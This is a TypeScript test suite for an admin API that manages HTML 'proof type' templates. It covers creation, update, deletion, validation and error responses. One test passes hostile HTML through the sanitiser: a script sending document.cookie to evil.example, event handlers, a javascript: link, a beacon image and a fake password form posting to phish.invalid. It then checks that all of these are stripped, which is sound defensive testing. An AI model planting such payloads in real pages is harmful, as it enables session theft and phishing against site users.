import { AREAS } from '@console/contract/areas';
import { createAdminTestApp, type TestApp } from '../../../testing/testApp';

let t: TestApp;
let admin: { authorization: string };
beforeAll(async () => ({ t, admin } = await createAdminTestApp()));
afterAll(() => t.close());

const TEMPLATE =
  '<div style="color:#00008B"><h3>Dear {user}</h3><p>Amount {amount} &amp; P/L {profitAndLoss}</p></div>';

describe.each(AREAS)('$label proof types', (area) => {
  const { apiBase, responseKey, noun } = area.prooftype;
  const base = `/api${apiBase}`;
  const call = (method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: object) =>
    t.app.inject({ method, url: `${base}${url}`, headers: admin, payload });
  let counter = 0;
  const create = async (content = TEMPLATE) =>
    (await call('POST', '', { type: `Type ${++counter}`, content })).json()[responseKey];

  it(`creates a proof type and answers it under ${responseKey}`, async () => {
    const response = await call('POST', '', { type: 'Odds Manipulating', content: TEMPLATE });
    expect(response.statusCode).toBe(201);
    expect(response.json()).toEqual({
      [responseKey]: {
        _id: expect.any(String),
        type: 'Odds Manipulating',
        content: TEMPLATE,
        createdAt: expect.any(String),
        updatedAt: expect.any(String),
        version: 1,
      },
      message: `${noun} created successfully`,
    });
  });

  it('lists proof types under data and reads one', async () => {
    const created = await create();
    expect((await call('GET', '')).json()).toEqual({ data: expect.arrayContaining([created]) });
    expect((await call('GET', `/${created._id}`)).json()).toEqual({ data: created });
  });

  it(`updates a proof type and answers it under ${responseKey}`, async () => {
    const created = await create();
    const response = await call('PUT', `/${created._id}`, { type: 'Hedging', content: '<p>{user}</p>' });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({
      [responseKey]: {
        ...created,
        type: 'Hedging',
        content: '<p>{user}</p>',
        updatedAt: expect.any(String),
        version: 2,
      },
      message: `${noun} updated successfully`,
    });
  });

  it('deletes a proof type', async () => {
    const created = await create();
    expect((await call('DELETE', `/${created._id}`)).json()).toEqual({ message: `${noun} deleted successfully` });
    expect((await call('GET', `/${created._id}`)).statusCode).toBe(404);
  });

  it('stores the HTML through the allow-list: no scripts, handlers, links, forms, positioning or foreign images, on create and on update', async () => {
    const upload = '/api/uploads/turbo/logos/AbCdEfGhIjKlMnOpQrStUvWx.png';
    const hostile =
      '<p onclick="steal()">Dear {user}</p><script>fetch("https://evil.example?c="+document.cookie)</script>' +
      '<a href="javascript:alert(1)">terms</a>' +
      `<img src="${upload}" onerror=alert(1)><img src="https://evil.example/beacon.png">` +
      '<div style="position:fixed;inset:0;z-index:9999"><form action="http://phish.invalid/steal"><input name="password"><button>Log in</button></form></div>';
    const cleaned = `<p>Dear {user}</p>terms<img src="${upload}"><img><div>Log in</div>`;
    const created = await create(hostile);
    expect(created.content).toBe(cleaned);
    const updated = (await call('PUT', `/${created._id}`, { type: created.type, content: `${hostile}!` })).json()[
      responseKey
    ];
    expect(updated.content).toBe(`${cleaned}!`);
    expect((await call('GET', `/${created._id}`)).json().data.content).toBe(`${cleaned}!`);
  });

  it.each([
    ['no body', undefined],
    ['no type', { content: TEMPLATE }],
    ['no content', { type: 'Lonely' }],
    ['blank values', { type: ' ', content: ' ' }],
    ['content that is only a script', { type: 'Sneaky', content: '<script>alert(1)</script>' }],
  ])('requires type and content: %s', async (_case, payload) => {
    const response = await call('POST', '', payload);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ message: 'Type and content are required' });
  });

  it('refuses values that are no strings', async () => {
    const response = await call('POST', '', { type: ['a'], content: TEMPLATE });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ message: 'type must be string' });
  });

  it('answers 409 to a type the area already has', async () => {
    const created = await create();
    const response = await call('POST', '', { type: created.type.toUpperCase(), content: TEMPLATE });
    expect(response.statusCode).toBe(409);
    expect(response.json()).toEqual({ message: `A ${noun.toLowerCase()} with this type already exists` });
  });

  it.each(['0192f0c4-7d1e-7b3a-8c4d-1e2f3a4b5c6d', 'not-an-id'])('answers 404 for the unknown id %s', async (id) => {
    for (const response of [
      await call('GET', `/${id}`),
      await call('PUT', `/${id}`, { type: 'x', content: 'y' }),
      await call('DELETE', `/${id}`),
    ]) {
      expect(response.statusCode).toBe(404);
      expect(response.json()).toEqual({ message: `${noun} not found` });
    }
  });
});
